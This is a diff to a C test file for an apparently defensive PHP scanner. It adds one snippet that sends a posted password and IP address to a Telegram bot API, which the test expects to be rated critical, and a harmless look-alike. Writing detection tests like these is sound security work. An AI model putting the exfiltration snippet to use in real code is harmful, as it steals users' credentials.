@@ -304,6 +304,13 @@ static void test_html_labels_and_whole_file_writes(void **state)
 	       "$a[1]['password'] = $_POST['password']; $a[1]['ip'] = $_SERVER['REMOTE_ADDR'];\n"
 	       "file_put_contents('v.json', json_encode($a));",
 	       HS_SEV_MEDIUM);
+	/* the bot API's URL built by sprintf from a format naming it */
+	expect(
+	    "<?php $i = 'Pwd: ' . $_POST['pw'] . ' IP: ' . $_SERVER['REMOTE_ADDR'];\n"
+	    "$u = sprintf('https://api.telegram.org/bot%s/sendMessage?chat_id=%s&text=%s', $t, $c, "
+	    "rawurlencode($i));\n"
+	    "$ch = curl_init(); curl_setopt($ch, CURLOPT_URL, $u); curl_exec($ch);",
+	    HS_SEV_CRITICAL);
 	/* look-alikes: error_log to the server log (type 0), a user's settings
 	 * file without a password, a word "b" that is not a label, a config
 	 * script written by an installer */
@@ -313,6 +320,9 @@ static void test_html_labels_and_whole_file_writes(void **state)
 	      "'ip' => $_SERVER['REMOTE_ADDR'])));");
 	quiet("<?php mail('a@example.com', 's', '<b>Name</b>: ' . $_POST['f2'] . ' ' . "
 	      "$_SERVER['REMOTE_ADDR']);");
+	/* an order bot's sprintf URL: no credential */
+	quiet("<?php $u = sprintf('https://api.telegram.org/bot%s/sendMessage?text=%s', $t, "
+	      "urlencode($_POST['name'] . ' ' . $_SERVER['REMOTE_ADDR'])); file_get_contents($u);");
 	quiet("<?php file_put_contents('config.php', '<?php $p = ' . var_export($_POST['dbpass'], "
 	      "true) . ';');");
 }
